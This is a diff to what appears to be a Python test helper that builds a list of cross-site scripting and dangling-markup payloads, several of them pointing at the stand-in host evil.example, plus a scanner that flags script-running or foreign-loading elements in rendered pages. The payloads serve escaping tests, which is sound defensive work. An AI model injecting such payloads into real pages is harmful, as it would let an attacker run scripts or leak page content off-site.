@@ -1,4 +1,4 @@
-"""Texts that would run a script in a page that does not escape them, and a search for dangers."""
+"""Texts that do harm where a page shows them unescaped, and a search for such harm in a page."""
 
 from __future__ import annotations
 
@@ -87,6 +87,12 @@ _OTHERS = (
     "<link rel=stylesheet href=//evil.example/a.css>",
     f"<template><script>{RUN}</script></template>",
     f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
+    # These open a quotation or an element, which swallows the rest of the page.
+    "<img src='//evil.example/?",
+    "<a href=//evil.example/><base target='",
+    "<form action=//evil.example/><input type=submit><textarea name=rest>",
+    "<button formaction=//evil.example/ form=a>",
+    "<plaintext>",
 )
 PAYLOADS = tuple(dict.fromkeys((*(a + b for a in _LEAVING for b in _RUNNING), *_OTHERS)))
 assert len(PAYLOADS) >= 200
@@ -94,13 +100,13 @@ assert len(PAYLOADS) >= 200
 LOADING = {"src", "href", "action", "formaction", "data", "xlink:href", "srcdoc"}
 FOREIGN = {
     *("object", "embed", "base", "math", "marquee", "video", "audio", "source", "template"),
-    *("svg", "noscript", "frame", "applet", "scr"),
+    *("svg", "noscript", "frame", "applet", "plaintext"),
 }
-"""Tags that no page of ours has."""
+"""Elements that none of our pages has."""
 
 
 def dangers(html: str) -> list[str]:
-    """What in a page could run, load or send something that is not ours."""
+    """What in a page could run a script, load a foreign file or send a form elsewhere."""
     return [*_found(Main(html).tags)]
 
 
@@ -185,7 +191,7 @@ def named_twice(own: str, english: str) -> str:
 
 
 def partners_with_payloads(directory: Path) -> Path:
-    """A content directory with a partner for each field and payload, such as `site-17`."""
+    """A content directory with one partner for each field and payload, such as `site-17`."""
     return write_content(
         directory,
         {
@@ -197,11 +203,11 @@ def partners_with_payloads(directory: Path) -> Path:
 
 
 IN_TEXTS = tuple(each for each in PAYLOADS if not set(each) & set("{}%\r\n\0\u2028\u202e"))
-"""Payloads that are valid in a text of the rules: one line, without braces."""
+"""Payloads that a text of the rules may hold: one line, without braces and percent signs."""
 
 
 def rules_with_payloads(directory: Path) -> Path:
-    """A content directory in which each text ends with a payload, in all languages."""
+    """A content directory in which each text ends with a payload, in every language."""
     write_content(directory)
     payloads = cycle(IN_TEXTS)
     rules = rules_path(directory)
